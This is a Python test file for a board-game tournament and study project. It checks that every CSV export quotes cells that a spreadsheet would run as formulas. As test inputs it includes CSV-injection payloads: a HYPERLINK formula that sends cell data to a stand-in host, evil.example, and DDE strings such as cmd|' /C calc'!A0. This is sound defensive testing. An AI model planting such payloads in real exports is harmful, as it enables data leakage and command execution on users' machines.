"""CSV formula injection (issue 65 item 2): every CSV the project writes neutralises a cell
a spreadsheet would run as a formula (OWASP's rule, :mod:`hasamigo.notation.csv_cells`).

The rule itself, then each export with a hostile name written and the file read back: the
study's export (command line and web, the zip too), a tournament's standings and boards
(command line and web)."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from hasamigo.cli import app
from hasamigo.notation.csv_cells import csv_text, dangerous, restore, safe_cell

runner = CliRunner()
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
NAME = '=HYPERLINK("http://e.x","go")'  # a name (at most 40 characters)


@pytest.mark.parametrize("text", [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\tplain", "\rplain", " =1",
    '"=1', "'=1", "  \n@x", " '\"+cmd", "-", "+", "=", HOSTILE, "-2+3", "--1",
    "=HYPERLINK(1)", "-Bob", "@home"])
def test_a_formula_gets_a_quote(text: str) -> None:
    assert dangerous(text)
    cell = safe_cell(text)
    assert cell == "'" + text and restore(cell) == text


@pytest.mark.parametrize("value", [
    "", "Ann", "谷田邦彦", "a=b", "1+1", "3d", "2026-12-07T12:00:00Z", "S01", "1;2;3",
    "-3", "+3", "-2.5", "-.5", "1e5", "-2e3", "0", " ", "'tis", "x\t=1", "O'Brien"])
def test_other_text_is_written_as_it_is(value: str) -> None:
    assert not dangerous(value)
    assert safe_cell(value) == value and restore(value) == value


def test_numbers_stay_numbers() -> None:
    assert [safe_cell(v) for v in (-3, -2.5, 0, 1e20, True, False, None)] == [
        "-3", "-2.5", "0", "1e+20", "1", "0", ""]


def test_a_whole_file_reads_back() -> None:
    text = csv_text(("name", "n"), [(HOSTILE, -1), ("a,b\n\"c\"", 2.5), ("\t@x", None)])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["name", "n"], ["'" + HOSTILE, "-1"], ["a,b\n\"c\"", "2.5"],
                    ["'\t@x", ""]]
    assert [restore(r[0]) for r in rows[1:]] == [HOSTILE, "a,b\n\"c\"", "\t@x"]


def no_formula(text: str) -> list[dict[str, str]]:
    """The CSV's rows, after checking that no cell of it would run as a formula."""
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not dangerous(cell) or cell.startswith("'"), (cell, row)
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]


# ---- tournaments ---------------------------------------------------------------------------

def test_tournament_export_from_the_command_line(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 't.db'}"

    def cli(*args: str) -> str:
        result = runner.invoke(app, ["tournament", *args, "--db", db])
        assert result.exit_code == 0, result.output
        return result.output

    cli("new", "Club", "--format", "swiss", "--rounds", "1", "--password", "pass1234")
    people = tmp_path / "people.csv"
    people.write_text(f'name\n"{NAME.replace(chr(34), chr(34) * 2)}"\n-Bob\n@Cid\nDee\n',
                      encoding="utf-8")
    cli("enter", "Club", "--csv", str(people))
    cli("pair", "Club")
    for board in json.loads(cli("explain", "Club", "--json"))["boards"]:
        if board[2] is not None:
            cli("result", "Club", str(board[0]), "40", "24")
    out = tmp_path / "s.csv", tmp_path / "g.csv"
    cli("export", "Club", "--standings", str(out[0]), "--games", str(out[1]))
    standings = no_formula(out[0].read_text(encoding="utf-8"))
    names = {r["name"] for r in standings}
    assert names == {"'" + NAME, "'-Bob", "'@Cid", "Dee"}
    assert {restore(n) for n in names} == {NAME, "-Bob", "@Cid", "Dee"}
    assert all(float(r["wins"]) >= 0 for r in standings)  # numbers stay numbers
    boards = no_formula(out[1].read_text(encoding="utf-8"))
    assert {"'" + NAME, "'-Bob"} & {b["black"] for b in boards} | {b["white"]
                                                                      for b in boards}


def test_tournament_downloads_from_the_web(tmp_path: Path) -> None:
    from test_tournament_web import create, enter_everyone, make_client

    with make_client(tmp_path / "web.db") as client:
        d = create(client, name="=cmd|' /C calc'!A0")
        enter_everyone(d, [NAME, "+Ann", "Ben", "@Cid"])
        for g in d.post("/rounds", status=201)["games"]:
            if g["kind"] == "played":
                d.post(f"/rounds/1/boards/{g['board']}/result",
                       {"black_discs": 40, "white_discs": 24})
        standings = no_formula(client.get(f"/api/tournaments/{d.id}/standings.csv").text)
        assert {restore(r["name"]) for r in standings} == {NAME, "+Ann", "Ben", "@Cid"}
        assert "'" + NAME in {r["name"] for r in standings}
        boards = no_formula(client.get(f"/api/tournaments/{d.id}/games.csv").text)
        assert "'+Ann" in {b["black"] for b in boards} | {b["white"] for b in boards}


# ---- the study -----------------------------------------------------------------------------

def test_study_export_from_the_command_line(tmp_path: Path) -> None:
    from test_study_service import _play_study_game, _service

    from hasamigo.study.service import StudySettings

    path = tmp_path / "study.db"
    service = _service(path)
    info = service.create(HOSTILE, StudySettings(protocol="extended"), "secret-pw")
    subject = service.new_subject(info.id, "en")
    code = subject.code
    service.consent(info.id, code)
    service.answer_before(info.id, code, strength=2, play_frequency="rarely", strategies=[])
    for index, program in enumerate(subject.order, 1):
        game_id = f"g{index}{code[:6].lower()}"
        _play_study_game(service, program, game_id)
        service.add_game(info.id, code, index, game_id)
        service.answer_felt(info.id, code, index, 4, "-1+1")
    service.answer_after(info.id, code, more_fun="amusement", more_fun_why="@me",
                         what_makes_fun=HOSTILE)
    out = tmp_path / "out"
    result = runner.invoke(app, ["study", "export", info.id, "-o", str(out), "--db",
                                 f"sqlite:///{path}"])
    assert result.exit_code == 0, result.output
    [subject] = no_formula((out / "subjects.csv").read_text(encoding="utf-8"))
    assert (subject["what_makes_fun"], subject["more_fun_why"]) == ("'" + HOSTILE, "'@me")
    assert subject["strength"] == "2"
    games = no_formula((out / "games.csv").read_text(encoding="utf-8"))
    assert {g["felt_note"] for g in games} == {"'-1+1"}
    assert json.loads((out / "study.json").read_text())["subjects"][0]["what_makes_fun"] \
        == HOSTILE  # the JSON keeps the text as typed


def test_study_downloads_from_the_web(tmp_path: Path) -> None:
    from test_study_web import make_client, new_study

    with make_client(tmp_path / "web.db") as client:
        study, token = new_study(client, name="@SUM(1+1)*cmd|' /C calc'!A0")
        auth = {"Authorization": f"Bearer {token}"}
        url = f"/api/studies/{study}"
        [meta] = no_formula(client.get(f"{url}/export/study.csv", headers=auth).text)
        assert meta["name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
        bundle = zipfile.ZipFile(io.BytesIO(client.get(f"{url}/export.zip",
                                                       headers=auth).content))
        for name in bundle.namelist():
            if name.endswith(".csv"):
                no_formula(bundle.read(name).decode("utf-8"))
        [zipped] = no_formula(next(bundle.read(n).decode("utf-8")
                                   for n in bundle.namelist() if n.endswith("study.csv")))
        assert zipped["name"] == meta["name"]


def test_every_csv_is_written_through_the_one_helper() -> None:
    """No module writes CSV but :mod:`hasamigo.notation.csv_cells` (a new export that
    called ``csv.writer`` itself would skip the neutralising)."""
    src = Path(__file__).resolve().parent.parent / "src" / "hasamigo"
    writers = sorted(str(p.relative_to(src)) for p in src.rglob("*.py")
                     if any(w in p.read_text(encoding="utf-8")
                            for w in ("csv.writer(", "csv.DictWriter(", "DictWriter(")))
    assert writers == ["notation/csv_cells.py"]
